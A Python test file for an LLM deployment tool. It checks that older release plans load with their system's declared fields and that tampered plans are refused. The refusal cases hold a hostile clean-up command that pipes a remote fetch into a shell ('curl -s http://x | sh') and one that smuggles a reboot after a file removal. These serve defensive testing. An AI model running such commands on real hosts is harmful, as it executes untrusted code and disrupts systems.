"""Status, stop, restart and rollback work from the plan a release carries
on its nodes, never from today's code for its system (issue 20):

- plan.json files written before the plan carried its failure signatures
  and labels (``tests/data/plans_before_20``, written by the code before that
  change) load, their missing fields filled from what their system declares,
  and stop, restart and status use that clean-up, those signatures and
  those labels;
- a release written before plans were recorded is read by its system;
- a plan whose clean-up or checks this tool would not have written is refused,
  and stop then stops the containers with no clean-up, saying so.

The flows run for real against every node played by this machine: a local
bash with a stand-in ``docker`` on PATH, the cluster's base directory a
temporary one. The clean-up step is recorded, never run here.
"""

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

import systems
from flows import deploy as dep
from flows import lifecycle, releases
from flows import status as status_flow
from llmdeploy.container import docker_run
from llmdeploy.errors import LlmdeployError
from llmdeploy.inventory import load_cluster
from llmdeploy.release import RELEASE_RE
from llmdeploy.releaseplan import DECLARED, ReleasePlan
from llmdeploy.runner import FAILED, OK, HostResult, UnreachableError
from tests.unit.test_engine import FAKE_DOCKER
from flows.binding import bind
from tests.binding import runners

OLD = Path(__file__).resolve().parent.parent / "data" / "plans_before_20"
NEW_FIELDS = ("signatures", "show_labels", "role_labels")
LABELS = {"vllm-ascend": {"start_rank": "start rank"}, "trtllm-serve": {"ranks": "ranks"}, "dynamo": {"ranks": "ranks"}}


def _old(path: Path) -> tuple[str, dict]:
    text = path.read_text()
    return text, json.loads(text)


class LocalNodes:
    """Stands in for the Runner: every node is this machine, each script runs
    under bash with the stand-in docker first on PATH; what each step sent is
    kept. The clean-up after stop is recorded, not run."""

    def __init__(self, cluster, env):
        self.cluster, self.env, self.sent = cluster, env, []
        self.unreachable: dict[str, str] = {}

    def __call__(self, cluster, nodes=None, **_):
        return self

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False

    def _bash(self, script: str, stdin: str | None = None) -> subprocess.CompletedProcess:
        return subprocess.run(["bash", "-c", script], capture_output=True, text=True, env=self.env, input=stdin, timeout=60)

    def run(self, step, nodes=None, **_):
        res = {}
        for n in nodes if nodes is not None else self.cluster.nodes:
            cmd = step.build(n)
            self.sent.append((step.name, n.name, cmd))
            if step.name.endswith("clean up"):
                res[n.name] = HostResult(n.name)
                continue
            p = self._bash(cmd, step.stdin(n) if getattr(step, "stdin", None) else None)
            res[n.name] = HostResult(n.name, OK if p.returncode == 0 else FAILED, msg=p.stderr.strip(), stdout=p.stdout, exit_code=p.returncode)
        return res

    def exec(self, node, script, **_):
        self.sent.append(("exec", node.name, script))
        p = self._bash(script)
        return p.stdout, p.stderr, p.returncode

    def connection(self, node):
        raise UnreachableError("no connection in this test")


@pytest.fixture
def nodes(tmp_path):
    """(make(cluster name, plan.json text or None, metas) -> (cluster, LocalNodes), docker state file)."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "docker").write_text(f"#!{sys.executable}\n" + FAKE_DOCKER)
    (bindir / "docker").chmod(0o755)
    state, calls = tmp_path / "docker-state.json", tmp_path / "docker-calls.jsonl"
    calls.write_text("")
    env = dict(os.environ, PATH=f"{bindir}:{os.environ['PATH']}", FAKE_DOCKER_STATE=str(state), FAKE_DOCKER_CALLS=str(calls))

    def make(name: str, plan_text: str | None, rid: str, metas: dict | None = None):
        cluster = load_cluster(name).model_copy(update={"base_dir": str(tmp_path / "base")})
        rd = tmp_path / "base" / cluster.name / "releases" / rid
        (rd / "logs").mkdir(parents=True)
        if plan_text is not None:
            (rd / "plan.json").write_text(plan_text)
        meta = (metas or {}).get(cluster.node0.name, {"release": rid, "cluster": cluster.name})
        (rd / "release.json").write_text(json.dumps(meta))
        (rd / "env").write_text("A=1\n")
        (tmp_path / "base" / cluster.name / "current").symlink_to(f"releases/{rid}")
        plan = ReleasePlan.from_json(plan_text) if plan_text else None
        containers = {}
        for s in plan.services if plan else []:
            for u in s.units:
                containers[u.container] = {"status": "running", "code": 0, "labels": {
                    "llmdeploy.cluster": cluster.name, "llmdeploy.release": rid, "llmdeploy.stop_phase": str(plan.stop_phase(s))}}
        state.write_text(json.dumps({"containers": containers}))
        return cluster, LocalNodes(cluster, env)

    make.state = state
    return make


# --- every plan.json written before the change --------------------------------------------------
@pytest.mark.parametrize("path", sorted(OLD.glob("*.json")), ids=lambda p: p.stem)
def test_an_old_plan_loads_with_what_its_system_declares(path):
    text, doc = _old(path)
    assert not set(NEW_FIELDS) & set(doc), "the data must be plans written before the change"
    cluster = load_cluster(doc["cluster"])
    assert ReleasePlan.from_json(text).absent == NEW_FIELDS
    plan = releases.plan_of(cluster, doc["release"], text, {})
    assert plan.system == doc["system"] and RELEASE_RE.match(plan.release)
    assert plan.signatures == systems.signatures(plan.system, cluster) and plan.signatures
    assert plan.show_labels == LABELS[plan.system]
    assert plan.role_labels == ({"node0": "node 0"} if plan.system == "vllm-ascend" else {})
    # what the old plan.json had stays its own
    assert plan.stop_cleanup == doc["stop_cleanup"] and plan.drift_env_prefixes == doc["drift_env_prefixes"]
    # and the engine of a restart or rollback of it reads exits with those signatures
    assert dep.engine_for(bind(cluster), None, Console(quiet=True), True, plan).signatures == plan.signatures
    # its units, recorded before they carried container specs, have the spec their docker run line says
    for u in plan.units():
        assert u.spec is not None and shlex.join(docker_run(u.spec)) == u.show["container_command"], u.container


@pytest.mark.parametrize("path", sorted(OLD.glob("*.json")), ids=lambda p: p.stem)
def test_stop_of_an_old_release_runs_its_own_clean_up_after_its_containers(path, nodes):
    text, doc = _old(path)
    cluster, run = nodes(doc["cluster"], text, doc["release"])
    with runners(run):
        assert lifecycle.stop(bind(cluster), Console(quiet=True), "m", 0) == 0
    cleanups = [cmd for name, _, cmd in run.sent if name == "stop: clean up"]
    want = systems.module_for(doc["system"]).STOP_CLEANUP
    assert cleanups == ([want] * len(cluster.nodes) if want else [])
    assert json.loads(nodes.state.read_text())["containers"] == {}
    # the workers' phase before node 0's: the reverse start order, from the labels
    phases = [cmd for name, _, cmd in run.sent if name == "stop"]
    assert phases and all("docker stop" in cmd for cmd in phases)


@pytest.mark.parametrize("path", sorted(OLD.glob("*.json")), ids=lambda p: p.stem)
def test_status_of_an_old_release_shows_its_systems_labels(path, nodes):
    text, doc = _old(path)
    cluster, run = nodes(doc["cluster"], text, doc["release"])
    con = Console(record=True, width=400)
    with runners(run):
        status_flow.status(bind(cluster), con, False, False)
    header = next(ln for ln in con.export_text().splitlines() if "host" in ln and "release" in ln)
    for label in LABELS[doc["system"]].values():
        assert label in header
    assert ("start rank" in header) == (doc["system"] == "vllm-ascend")


def test_restart_reads_the_old_plan_and_its_units_attempt_numbers(nodes, tmp_path):
    text, doc = _old(OLD / "sim-a3.json")
    cluster, run = nodes(doc["cluster"], text, doc["release"])
    logs = tmp_path / "base" / "sim-a3" / "releases" / doc["release"] / "logs"
    unit = ReleasePlan.from_json(text).units("sim-a3-2")[0]
    (logs / f"{unit.container}.attempt-1.log").write_text("x\n")
    (logs / f"{unit.container}.attempt-2.log").write_text("x\n")
    (tmp_path / "base" / "sim-a3" / "ledger.jsonl").write_text("")
    plan, on = lifecycle._current(run, bind(cluster), "sim-a3-2")
    assert plan.signatures == systems.signatures("vllm-ascend", cluster) and plan.stop_cleanup == doc["stop_cleanup"]
    earlier = lifecycle._earlier(plan, on)
    # every node shares this machine's directory here: each unit's logs are one unit's
    assert earlier[f"sim-a3-2/{unit.container}"] == 3
    assert lifecycle._units_to_restart(plan, "sim-a3-2", None) == [unit]
    with pytest.raises(LlmdeployError, match="--host sim-a3-0 is node 0: restarting it alone"):
        lifecycle._units_to_restart(plan, "sim-a3-0", None)


# --- releases written before plans were recorded --------------------------------------------------
def _metas(cluster, rid, system=None):
    out = {}
    for i, n in enumerate(cluster.nodes):
        out[n.name] = {"release": rid, "host": n.name, "container": f"{cluster.name}-{rid}", "start_rank": i}
        if system:
            out[n.name]["system"] = system
    return out


def test_a_release_without_plan_json_is_read_by_the_system_that_wrote_it():
    cluster, rid = load_cluster("sim-a3"), "20261101T000000Z-0123abcd"
    plan = releases.plan_of(cluster, rid, "", _metas(cluster, rid))
    assert [s.name for s in plan.services] == ["node0", "workers"] and plan.service("node0").restart == "none"
    assert [u.show["start_rank"] for u in plan.units()] == [0, 1, 2, 3]
    assert plan.stop_cleanup == systems.module_for("vllm-ascend").STOP_CLEANUP
    assert plan.signatures == systems.signatures("vllm-ascend", cluster) and plan.show_labels == {"start_rank": "start rank"}
    assert plan.name_of(plan.units()[0]) == "node 0" and plan.shown_text(plan.units()[1]) == "start rank 1"
    with pytest.raises(LlmdeployError, match="no serving system of this tool"):
        releases.plan_of(cluster, rid, "", _metas(cluster, rid, system="trtllm-serve"))
    metas = _metas(cluster, rid)
    del metas["sim-a3-2"]["container"]
    with pytest.raises(LlmdeployError, match="no container named in the release.json of sim-a3-2"):
        releases.plan_of(cluster, rid, "", metas)


# --- what a plan read back may not carry ------------------------------------------------------------
@pytest.mark.parametrize("change,said", [
    ({"stop_cleanup": "curl -s http://x | sh\n"}, "stop clean-up"),
    ({"stop_cleanup": "rm -f /dev/shm/moe_*; reboot\n"}, "stop clean-up"),
    ({"signatures": [["(unclosed", "x"]]}, "failure signature"),
    ({"ready": [{"name": "h", "kind": "http", "host": "sim-a3-0", "port": 8000, "check": "no_such_check"}]}, "no_such_check"),
    ({"show_labels": {"start_rank": 3}}, "not text"),
])
def test_a_plan_this_tool_would_not_write_is_refused(change, said):
    text, doc = _old(OLD / "sim-a3.json")
    doc.update(change)
    with pytest.raises(LlmdeployError, match=f"not one this tool wrote.*{said}"):
        releases.plan_of(load_cluster("sim-a3"), doc["release"], json.dumps(doc), {})


def test_stop_with_no_readable_plan_stops_the_containers_with_no_clean_up_and_says_so(nodes):
    text, doc = _old(OLD / "sim-a3.json")
    tampered = dict(json.loads(text), stop_cleanup="curl -s http://x | sh\n")
    cluster, run = nodes("sim-a3", json.dumps(tampered), doc["release"])
    con = Console(record=True, width=400)
    with runners(run):
        assert lifecycle.stop(bind(cluster), con, None, 0) == 0
    said = con.export_text()
    assert "no readable plan of a current release" in said and "with no clean-up" in said and "stop clean-up" in said
    assert not any(name == "stop: clean up" for name, _, _ in run.sent)
    assert not any("curl" in cmd for _, _, cmd in run.sent)
    assert json.loads(nodes.state.read_text())["containers"] == {}


def test_stop_with_no_current_release_at_all_says_so(nodes, tmp_path):
    cluster, run = nodes("sim-a3", None, "20261101T000000Z-0123abcd")
    (tmp_path / "base" / "sim-a3" / "current").unlink()
    con = Console(record=True, width=400)
    with runners(run):
        assert lifecycle.stop(bind(cluster), con, None, 0) == 0
    assert "no node has a current release" in con.export_text()
    assert not any(name == "stop: clean up" for name, _, _ in run.sent)


def test_every_declared_field_is_filled_for_a_plan_that_lacks_them_all():
    text, doc = _old(OLD / "sim-gb300-1p2d.json")
    for key in DECLARED:
        doc.pop(key, None)
    cluster = load_cluster("sim-gb300-1p2d")
    plan = systems.read_plan(cluster, doc["release"], json.dumps(doc), {})
    assert plan.absent == DECLARED
    assert {k: getattr(plan, k) for k in DECLARED} == systems.declared("dynamo", cluster)
    unknown = dict(doc, system="no-such-system")
    with pytest.raises(LlmdeployError, match="only its system 'no-such-system' could give"):
        systems.read_plan(cluster, doc["release"], json.dumps(unknown), {})
